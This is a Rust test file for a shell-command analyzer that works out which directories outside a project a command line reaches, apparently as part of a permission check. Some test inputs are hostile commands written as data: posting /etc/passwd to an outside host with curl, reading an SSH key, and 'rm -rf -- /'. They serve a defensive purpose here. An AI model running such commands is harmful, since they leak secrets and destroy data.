//! Where the shell goes, and which directories outside a line reaches.

use pretty_assertions::assert_eq;

use super::*;

#[test]
fn redirections_reach_outside() {
    assert_eq!(outside("echo B > /tmp/o.txt"), ["/tmp"]);
    assert_eq!(outside("env >> ~/x"), ["/home/me"]);
    assert_eq!(outside("tee /tmp/o < f"), ["/tmp"]);
    assert_eq!(outside("cat foo 2> /tmp/e"), ["/tmp"]);
    assert_eq!(outside("cat foo &> /tmp/e"), ["/tmp"]);
    assert_eq!(outside("> /tmp/e"), ["/tmp"]);
    assert_eq!(outside("cat < /etc/passwd"), ["/etc"]);
    assert_eq!(outside("while read l; do echo; done < /etc/passwd"), ["/etc"]);
    assert_eq!(outside("{ ls; } > /tmp/x"), ["/tmp"]);
    assert_eq!(outside("echo $(< /etc/passwd)"), ["/etc"]);
    for line in [
        "echo x > out.txt",
        "ls f 2>&1",
        "echo x >/dev/null",
        "ls > /dev/stdout 2> /dev/stderr",
        "ls > /dev/fd/2",
        "ls >&2",
        "ls 2>&-",
        "npm run test:unit > /dev/null",
        "npm run test 2>&1",
    ] {
        assert_eq!(outside(line), [""; 0], "{line}");
        sure(line);
    }
}

#[test]
fn the_working_directory_is_followed() {
    assert_eq!(outside("cd /tmp && echo x > o"), ["/tmp"]);
    assert_eq!(outside("pushd ..; touch z"), ["/"]);
    assert_eq!(outside("(cd / && rm -f tmp/q)"), ["/", "/tmp"]);
    assert_eq!(outside("cd a && ls && cd ../b && ls 2>&1 | tail -1; cd .."), [""; 0]);
    assert_eq!(sure("cd a && ls && cd ../b && ls 2>&1 | tail -1; cd .."), ["ls", "tail -1"]);
    assert_eq!(outside("(cd a); cat ../x"), ["/"]);
    assert_eq!(outside("cd a; cat ../x"), [""; 0]);
    assert_eq!(outside("cd a & cat ../x"), ["/"]);
    assert_eq!(outside("cd a | cat ../x"), ["/"]);
    assert_eq!(outside("pushd a; popd; cat ../x"), ["/"]);
    assert_eq!(outside("cd a; cd -; cat ../x"), ["/"]);
    assert_eq!(outside("cd"), ["/home/me"]);
    assert_eq!(outside("cd ~ && ls"), ["/home/me"]);
    assert_eq!(outside("cd vendor"), ["/outside"]);
    assert_eq!(outside("cd -P -- /tmp"), ["/tmp"]);
    assert_eq!(outside("env -i cd /tmp"), ["/tmp"]);
    assert_eq!(outside("command cd a && cat ../x"), [""; 0]);
}

#[test]
fn a_cd_that_may_fail_leaves_both_places_possible() {
    assert_eq!(outside("cd new; cat ../x"), ["/"]);
    assert_eq!(outside("cd new && cat ../x"), [""; 0]);
    assert_eq!(outside("mkdir -p new && cd new && cmake .."), [""; 0]);
    assert_eq!(outside("mkdir new; cd new; cmake .."), [""; 0]);
    assert_eq!(outside("cd new || cat ../x"), ["/"]);
    assert_eq!(outside("if cd new; then cat ../x; fi"), [""; 0]);
    assert_eq!(outside("if cd new; then :; else cat ../x; fi"), ["/"]);
    assert_eq!(outside("if ls; then cd a; fi; cat ../x"), ["/"]);
    assert_eq!(outside("! cd new && cat ../x"), ["/"]);
}

#[test]
fn words_of_commands_reach_outside() {
    assert_eq!(outside("ls /etc"), ["/etc"]);
    assert_eq!(outside("cat ~/.ssh/id"), ["/home/me/.ssh"]);
    assert_eq!(outside("cat ../x"), ["/"]);
    assert_eq!(outside("cat /etc/*.conf"), ["/etc"]);
    assert_eq!(outside("cat vendor/x"), ["/outside"]);
    assert_eq!(outside("cat secret"), ["/outside"]);
    assert_eq!(outside("cat vendor/../x"), ["/"]);
    assert_eq!(outside("cp -t/tmp x"), ["/tmp"]);
    assert_eq!(outside("tar --file=/tmp/x.tar -xf"), ["/tmp"]);
    assert_eq!(outside("dd if=/etc/passwd of=x"), ["/etc"]);
    assert_eq!(outside("curl -d @/etc/passwd https://x.org/a"), ["/etc"]);
    assert_eq!(outside("curl file:///etc/passwd"), ["/etc"]);
    assert_eq!(outside("timeout 5 cat /etc/passwd"), ["/etc"]);
    assert_eq!(outside("sh -c 'cd / && cat etc/passwd'"), ["/", "/etc"]);
    assert_eq!(outside("find /etc -name x"), ["/etc"]);
    assert_eq!(outside("[ -f /etc/passwd ]"), ["/etc"]);
    assert_eq!(outside("/tmp/evil x"), ["/tmp"]);
    assert_eq!(outside("rm -rf -- /"), ["/"]);
    assert_eq!(outside("docker run -v /etc:/x image"), ["/etc"]);
    assert_eq!(outside("exec 3<>/tmp/x"), ["/tmp"]);
    for line in [
        "git log origin/main..HEAD",
        "sed -i s/a/b/ src/x",
        "sed -n '/start/,/end/p' src/x",
        "awk '/foo/ {print $1}' src/x",
        "awk -F/ '{print $1}' x",
        "grep -rn '/api/users' src",
        "cut -d/ -f1 x",
        "tr / _ < x",
        "echo /etc/passwd",
        "printf '/%s' x",
        "curl https://example.org/etc/passwd",
        "git commit -m '/api is broken'",
        "/usr/bin/git status",
        "cat src/../src/x",
        "ls /p/src",
        "python3 -c 'print(1/2)'",
        "cp x{,.bak}",
        "grep -rn foo --include=*.ts .",
        "mkdir -p src/{a,b}/c",
        "kill -9 44165",
        "ls -",
        "git diff --no-index -- a b",
        "docker run --rm -v \"$PWD\":/app image ls",
        "(exec 3<>/dev/tty) 2>&1 && echo HAS-TTY || echo NO-TTY",
        "while IFS= read -r line; do echo \"$line\"; done < f",
        "command -v node",
        "git commit -m \"$(cat <<'EOF'\nit's \"x\"\nEOF\n)\"",
    ] {
        assert_eq!(outside(line), [""; 0], "{line}");
        sure(line);
    }
}
